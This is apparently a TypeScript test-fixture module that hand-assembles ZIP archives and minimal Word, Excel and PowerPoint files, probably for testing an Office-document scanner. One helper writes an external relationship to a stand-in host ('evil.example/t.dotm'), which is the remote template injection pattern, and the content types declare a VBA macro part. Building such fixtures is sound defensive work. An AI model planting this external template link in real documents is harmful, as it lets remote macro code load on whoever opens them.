import { crc32, deflateRawSync } from 'node:zlib';

/** An archive of these files, as any writer would make it. */
export function zipOf(files: Readonly<Record<string, string | Buffer>>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const [name, text] of Object.entries(files)) {
    const [path, plain] = [Buffer.from(name), Buffer.from(text)];
    const packed = deflateRawSync(plain, { level: 9 });
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(crc32(plain) >>> 0, 10);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(plain.length, 18);
    facts.writeUInt16LE(path.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, path, packed]);
    const entry = Buffer.alloc(14);
    entry.writeUInt32LE(at, 10);
    central.push(
      Buffer.concat([Buffer.from('PK\x01\x02', 'latin1'), Buffer.from([20, 0]), facts, entry, path]),
    );
    locals.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(central.length, 8);
  end.writeUInt16LE(central.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, directory, end]);
}

type Parts = Readonly<Record<string, string | Buffer>>;

export const officeRels = (more = '') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${more}</Relationships>`;

/** A relation to what lies elsewhere. */
export const externalRel = (type: string) =>
  officeRels(
    `<Relationship Id="r2" Type="http://x/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
  );

const list = (part: string, main: string, more: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/${part}" ContentType="${main}"/>${more}</Types>`;
const office = 'application/vnd.openxmlformats-officedocument';

/** A list of types whose main part is of a format. */
export const contentTypesOf = (part: string, format: string, more = '') =>
  list(part, `${office}.${format}.main+xml`, more);
export const contentTypes = (main = `${office}.wordprocessingml.document.main+xml`, more = '') =>
  list('word/document.xml', main, more);

const plainLink =
  '<Relationship Id="r1" Type="http://x/hyperlink" Target="https://example.com" TargetMode="External"/>';

/** A document of Word with more in it. */
export const wordFile = (more: Parts = {}) =>
  zipOf({
    '[Content_Types].xml': contentTypes(),
    '_rels/.rels': officeRels(),
    'word/document.xml': '<?xml version="1.0"?><w:document/>',
    'word/_rels/document.xml.rels': officeRels(plainLink),
    ...more,
  });

/** The same of Excel. */
export const excelFile = (more: Parts = {}) =>
  zipOf({
    '[Content_Types].xml': contentTypesOf('xl/workbook.xml', 'spreadsheetml.sheet'),
    '_rels/.rels': officeRels(),
    'xl/workbook.xml': '<workbook/>',
    ...more,
  });

/** The same of PowerPoint. */
export const powerPointFile = (more: Parts = {}) =>
  zipOf({
    '[Content_Types].xml': contentTypesOf('ppt/presentation.xml', 'presentationml.presentation'),
    '_rels/.rels': officeRels(),
    'ppt/presentation.xml': '<p:presentation/>',
    ...more,
  });

/** A document of so many parts that have nothing in them. */
export const zipOfManyParts = (parts: number) =>
  wordFile(Object.fromEntries(Array.from({ length: parts }, (_, at) => [`word/p${at}.bin`, ''])));
